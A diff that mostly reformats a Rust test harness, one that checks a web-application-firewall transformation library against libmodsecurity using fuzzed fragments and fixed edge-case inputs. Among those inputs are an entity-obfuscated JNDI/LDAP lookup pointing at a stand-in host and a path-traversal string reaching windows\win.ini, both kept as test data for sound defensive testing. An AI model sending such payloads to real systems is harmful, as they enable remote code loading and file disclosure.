@@ -47,14 +47,100 @@ impl Rng {
 
 /// Fragments that matter to some transformation; inputs are random concatenations of them.
 const FRAGMENTS: &[&[u8]] = &[
-    b"%", b"%u", b"%U", b"+", b"0", b"1", b"2", b"3", b"4", b"7", b"8", b"9", b"a", b"f", b"F",
-    b"x", b"X", b"g", b"z", b"&", b"#", b";", b"&#", b"&#x", b"amp", b"lt", b"GT", b"quot",
-    b"nbsp", b"\\", b"\\u", b"\\x", b"/", b".", b"..", b"./", b"../", b"*", b"/*", b"*/", b"-",
-    b"--", b"-->", b"<!--", b"<", b"!", b">", b" ", b"  ", b"\t", b"\n", b"\r", b"\x0b", b"\x0c",
-    b"\0", b"\x80", b"\xa0", b"\xc2", b"\xc3", b"\xa9", b"\xe2\x82", b"\xac", b"\xed\xa0",
-    b"\xf0\x9f", b"\x98\x80", b"\xf5", b"\xff", b"ff", b"FF0", b"00", b"0x", b"0X", b"=", b"==",
-    b"QUJD", b"VGVz", b"Q", b"^", b"\"", b"'", b",", b"(", b"A", b"Z", b"e", b"\\\n",
-    b"%2", b"%41", b"%u00", b"%uff1", b"3002", b"c", b"C:", b"\\\\",
+    b"%",
+    b"%u",
+    b"%U",
+    b"+",
+    b"0",
+    b"1",
+    b"2",
+    b"3",
+    b"4",
+    b"7",
+    b"8",
+    b"9",
+    b"a",
+    b"f",
+    b"F",
+    b"x",
+    b"X",
+    b"g",
+    b"z",
+    b"&",
+    b"#",
+    b";",
+    b"&#",
+    b"&#x",
+    b"amp",
+    b"lt",
+    b"GT",
+    b"quot",
+    b"nbsp",
+    b"\\",
+    b"\\u",
+    b"\\x",
+    b"/",
+    b".",
+    b"..",
+    b"./",
+    b"../",
+    b"*",
+    b"/*",
+    b"*/",
+    b"-",
+    b"--",
+    b"-->",
+    b"<!--",
+    b"<",
+    b"!",
+    b">",
+    b" ",
+    b"  ",
+    b"\t",
+    b"\n",
+    b"\r",
+    b"\x0b",
+    b"\x0c",
+    b"\0",
+    b"\x80",
+    b"\xa0",
+    b"\xc2",
+    b"\xc3",
+    b"\xa9",
+    b"\xe2\x82",
+    b"\xac",
+    b"\xed\xa0",
+    b"\xf0\x9f",
+    b"\x98\x80",
+    b"\xf5",
+    b"\xff",
+    b"ff",
+    b"FF0",
+    b"00",
+    b"0x",
+    b"0X",
+    b"=",
+    b"==",
+    b"QUJD",
+    b"VGVz",
+    b"Q",
+    b"^",
+    b"\"",
+    b"'",
+    b",",
+    b"(",
+    b"A",
+    b"Z",
+    b"e",
+    b"\\\n",
+    b"%2",
+    b"%41",
+    b"%u00",
+    b"%uff1",
+    b"3002",
+    b"c",
+    b"C:",
+    b"\\\\",
 ];
 
 fn generate(rng: &mut Rng) -> Vec<u8> {
@@ -81,12 +167,44 @@ fn fixed_inputs() -> Vec<Vec<u8>> {
         b"&#x24;&#00000000000000000000000000000000000000000000000123;jndi:ldap://evil.om/w}",
         b"&#99999999999999999999999;&#x7fffffffffffffff41;&#x8000000000000041",
         b"&#4142;&#x4142;&ltfoo;&LT;&nbsp",
-        b"%", b"%4", b"%zz", b"%u", b"%u004", b"%u004g", b"%uFF1Cx", b"%%41",
-        b"\xc3", b"\xc3(", b"\xe2\x82", b"\xf0\x9f\x98", b"\xc0\x80", b"\xed\xa0\x80",
-        b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80", b"a\0", b"\0", b"\0a",
-        b"/a/b/../../../c/./d//e/", b"..\\..\\windows\\win.ini", b"/.", b"/..", b".", b"..",
-        b"/**/", b"/*", b"*/", b"<!--", b"-->", b"--", b"#",
-        b"\\", b"\\x", b"\\u", b"\\0", b"\\777", b"\\400",
+        b"%",
+        b"%4",
+        b"%zz",
+        b"%u",
+        b"%u004",
+        b"%u004g",
+        b"%uFF1Cx",
+        b"%%41",
+        b"\xc3",
+        b"\xc3(",
+        b"\xe2\x82",
+        b"\xf0\x9f\x98",
+        b"\xc0\x80",
+        b"\xed\xa0\x80",
+        b"\xf4\x90\x80\x80",
+        b"\xf8\x88\x80\x80\x80",
+        b"a\0",
+        b"\0",
+        b"\0a",
+        b"/a/b/../../../c/./d//e/",
+        b"..\\..\\windows\\win.ini",
+        b"/.",
+        b"/..",
+        b".",
+        b"..",
+        b"/**/",
+        b"/*",
+        b"*/",
+        b"<!--",
+        b"-->",
+        b"--",
+        b"#",
+        b"\\",
+        b"\\x",
+        b"\\u",
+        b"\\0",
+        b"\\777",
+        b"\\400",
     ]
     .iter()
     .map(|s| s.to_vec())
@@ -209,36 +327,43 @@ fn main() {
 
     let Some(binary) = build_oracle(&dir) else {
         let total = cases.len() + map_cases.len();
-        println!("libmodsecurity oracle: pkg-config does not know `modsecurity` (install libmodsecurity-dev)");
+        println!(
+            "libmodsecurity oracle: pkg-config does not know `modsecurity` (install libmodsecurity-dev)"
+        );
         println!("libmodsecurity oracle: 0 passed, 0 failed, {total} skipped");
         return;
     };
 
     let (mut passed, mut failed, mut skipped) = (0usize, 0usize, 0usize);
     let mut failures: BTreeMap<&str, Vec<String>> = BTreeMap::new();
-    let mut check = |label: &'static str,
-                     id: TransformId,
-                     input: &[u8],
-                     ours: &[u8],
-                     theirs: &[u8]| match as_309(id, input, ours) {
-        None => skipped += 1,
-        Some(adjusted) if adjusted == theirs => passed += 1,
-        Some(adjusted) => {
-            failed += 1;
-            failures.entry(label).or_default().push(format!(
-                "{}: input \"{}\"\n    libmodsecurity \"{}\"\n    palisade       \"{}\"",
-                id.name(),
-                input.escape_ascii(),
-                theirs.escape_ascii(),
-                adjusted.escape_ascii()
-            ));
-        }
-    };
+    let mut check =
+        |label: &'static str, id: TransformId, input: &[u8], ours: &[u8], theirs: &[u8]| {
+            match as_309(id, input, ours) {
+                None => skipped += 1,
+                Some(adjusted) if adjusted == theirs => passed += 1,
+                Some(adjusted) => {
+                    failed += 1;
+                    failures.entry(label).or_default().push(format!(
+                        "{}: input \"{}\"\n    libmodsecurity \"{}\"\n    palisade       \"{}\"",
+                        id.name(),
+                        input.escape_ascii(),
+                        theirs.escape_ascii(),
+                        adjusted.escape_ascii()
+                    ));
+                }
+            }
+        };
 
     let ctx = TransformContext::default();
     let theirs = ask(&binary, &[], &cases);
     for ((id, input), theirs) in cases.iter().zip(&theirs) {
-        check("no unicode map", *id, input, &apply(*id, input, &ctx), theirs);
+        check(
+            "no unicode map",
+            *id,
+            input,
+            &apply(*id, input, &ctx),
+            theirs,
+        );
     }
 
     let map_ctx =
@@ -246,7 +371,13 @@ fn main() {
     let map_arg = map_path.to_str().unwrap();
     let theirs = ask(&binary, &["--unicode-map", map_arg, "20127"], &map_cases);
     for ((id, input), theirs) in map_cases.iter().zip(&theirs) {
-        check("unicode map 20127", *id, input, &apply(*id, input, &map_ctx), theirs);
+        check(
+            "unicode map 20127",
+            *id,
+            input,
+            &apply(*id, input, &map_ctx),
+            theirs,
+        );
     }
 
     for (label, list) in &failures {
